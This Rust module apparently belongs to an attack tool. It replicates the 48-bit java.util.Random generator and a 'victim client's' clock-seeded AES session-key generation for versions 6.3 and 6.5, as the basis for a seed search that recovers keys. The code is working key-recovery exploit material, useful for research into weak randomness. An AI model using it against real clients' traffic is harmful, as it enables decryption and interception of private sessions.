//! Bit-exact replica of the victim client's session-key generation.
//!
//! The client uses the platform's 48-bit linear congruential generator
//! (`java.util.Random`). Version 6.3 concatenates the decimal forms of two
//! bounded draws; version 6.5 seeds one generator with the wall clock in
//! milliseconds and takes sixteen bytes from it. Either way the key is a
//! function of very little entropy, which is what the seed search exploits.

use std::fmt;

use serde::Serialize;

const MULTIPLIER: u64 = 0x5_DEEC_E66D;
const INCREMENT: u64 = 0xB;
const MASK: u64 = (1 << 48) - 1;

/// Bound used by the 6.3 key generator: draws land in `[0, 89999999)`.
pub const V63_BOUND: u32 = 89_999_999;
pub const V63_OFFSET: u32 = 10_000_000;

/// The victim platform's 48-bit LCG.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct Lcg48 {
    state: u64,
}

impl Lcg48 {
    pub fn new(seed: u64) -> Self {
        Lcg48 {
            state: (seed ^ MULTIPLIER) & MASK,
        }
    }

    pub fn state(&self) -> u64 {
        self.state
    }

    /// Advance once and return the top `bits` bits of the new state.
    pub fn next_bits(&mut self, bits: u32) -> u32 {
        assert!((1..=32).contains(&bits), "bits must be in 1..=32");
        self.state = (self.state.wrapping_mul(MULTIPLIER).wrapping_add(INCREMENT)) & MASK;
        (self.state >> (48 - bits)) as u32
    }

    /// Uniform value in `[0, bound)` by the platform's rejection sampling.
    ///
    /// # Panics
    ///
    /// Panics unless `1 <= bound <= i32::MAX`.
    pub fn bounded_int(&mut self, bound: u32) -> u32 {
        assert!(bound >= 1 && bound <= i32::MAX as u32, "bound out of range");
        let mut r = self.next_bits(31);
        let m = bound - 1;
        if bound & m == 0 {
            return ((bound as u64 * r as u64) >> 31) as u32;
        }
        loop {
            let v = r % bound;
            // the platform computes r - v + m in i32 and rejects on overflow
            if (r - v) as u64 + m as u64 <= i32::MAX as u64 {
                return v;
            }
            r = self.next_bits(31);
        }
    }

    /// Fill `out` four bytes per 32-bit draw, least significant byte first.
    pub fn next_bytes(&mut self, out: &mut [u8]) {
        for chunk in out.chunks_mut(4) {
            let word = self.next_bits(32);
            for (i, b) in chunk.iter_mut().enumerate() {
                *b = (word >> (8 * i)) as u8;
            }
        }
    }
}

#[derive(Debug, Clone, Copy, PartialEq, Eq, Hash, Serialize)]
#[serde(rename_all = "snake_case")]
pub enum KeyOrigin {
    V63,
    V65,
    External,
}

/// A 128-bit AES session key. The key integer is the big-endian reading of
/// the sixteen bytes.
#[derive(Clone, PartialEq, Eq, Hash)]
pub struct SessionKey {
    key: [u8; 16],
    origin: KeyOrigin,
    seed_millis: Option<u64>,
}

impl fmt::Debug for SessionKey {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        write!(f, "SessionKey({}, {:?}", hex::encode(self.key), self.origin)?;
        if let Some(t) = self.seed_millis {
            write!(f, ", t={t}")?;
        }
        write!(f, ")")
    }
}

impl SessionKey {
    pub fn external(key: [u8; 16]) -> Self {
        SessionKey {
            key,
            origin: KeyOrigin::External,
            seed_millis: None,
        }
    }

    pub fn from_u128(value: u128) -> Self {
        Self::external(value.to_be_bytes())
    }

    pub fn bytes(&self) -> &[u8; 16] {
        &self.key
    }

    pub fn to_u128(&self) -> u128 {
        u128::from_be_bytes(self.key)
    }

    pub fn origin(&self) -> KeyOrigin {
        self.origin
    }

    pub fn seed_millis(&self) -> Option<u64> {
        self.seed_millis
    }

    pub fn to_hex(&self) -> String {
        hex::encode(self.key)
    }

    /// Same key bytes, regardless of how each side learned them.
    pub fn same_key(&self, other: &SessionKey) -> bool {
        self.key == other.key
    }
}

/// One bounded draw from a freshly seeded generator, as the 6.3 client does
/// with `new Random().nextInt(89999999)`.
fn v63_component(seed: u64) -> u32 {
    V63_OFFSET + Lcg48::new(seed).bounded_int(V63_BOUND)
}

/// Version 6.3 key: the ASCII decimal digits of `i` followed by those of `j`,
/// each drawn from its own generator.
pub fn keygen_v63(seed_i: u64, seed_j: u64) -> SessionKey {
    let i = v63_component(seed_i);
    let j = v63_component(seed_j);
    let text = format!("{i}{j}");
    let key: [u8; 16] = text.as_bytes().try_into().expect("two 8-digit numbers");
    SessionKey {
        key,
        origin: KeyOrigin::V63,
        seed_millis: None,
    }
}

/// Version 6.3 key with both generators seeded from a clock, read once per
/// generator.
pub fn keygen_v63_with_clock(mut clock: impl FnMut() -> u64) -> SessionKey {
    let seed_i = clock();
    let seed_j = clock();
    SessionKey {
        seed_millis: Some(seed_i),
        ..keygen_v63(seed_i, seed_j)
    }
}

/// Version 6.5 key: seed with `millis`, then two 8-byte `nextBytes` calls.
pub fn keygen_v65(millis: u64) -> SessionKey {
    let mut gen = Lcg48::new(millis);
    let mut first = [0u8; 8];
    let mut second = [0u8; 8];
    gen.next_bytes(&mut first);
    gen.next_bytes(&mut second);
    let mut key = [0u8; 16];
    key[..8].copy_from_slice(&first);
    key[8..].copy_from_slice(&second);
    SessionKey {
        key,
        origin: KeyOrigin::V65,
        seed_millis: Some(millis),
    }
}
